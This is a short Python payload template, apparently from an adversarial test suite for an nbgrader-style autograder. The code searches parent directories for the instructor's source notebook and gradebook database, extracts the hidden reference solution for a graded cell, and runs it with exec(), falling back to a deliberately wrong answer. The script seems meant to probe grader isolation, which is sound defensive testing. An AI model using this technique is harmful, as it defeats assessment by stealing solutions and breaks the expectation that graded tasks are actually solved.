# read-source: looks for the instructor's solution in source/ and the gradebook, runs it if found (else the
# wrong answer).

import json as _json
import os as _os
import sqlite3 as _sqlite3

# Filled in for each submission (tools.adversarial.build.payloads).
_ASSIGNMENT = ...
_NOTEBOOK = ...
_GRADE_ID = ...
_FALLBACK = ...

_stolen = None
_here = _os.path.abspath(".")
for _up in range(6):
    _root = _os.path.abspath(_os.path.join(_here, *[".."] * _up))
    _path = _os.path.join(_root, "source", _ASSIGNMENT, _NOTEBOOK)
    try:
        with open(_path) as _file:
            for _cell in _json.load(_file)["cells"]:
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == _GRADE_ID:
                    _stolen = "".join(_cell["source"])
    except OSError:
        pass
    try:
        _db = _sqlite3.connect("file:" + _os.path.join(_root, "gradebook.db") + "?mode=ro", uri=True)
        _rows = _db.execute("SELECT source FROM source_cell WHERE name = ?", (_GRADE_ID,)).fetchall()
        _db.close()
        if _rows and _stolen is None and "raise NotImplementedError" not in _rows[0][0]:
            _stolen = _rows[0][0]
    except Exception:
        pass
    if _stolen:
        break
if _stolen:
    print("read-source: found the instructor's solution")
    exec(_stolen)
else:
    print("read-source: nothing found")
    exec(_FALLBACK)
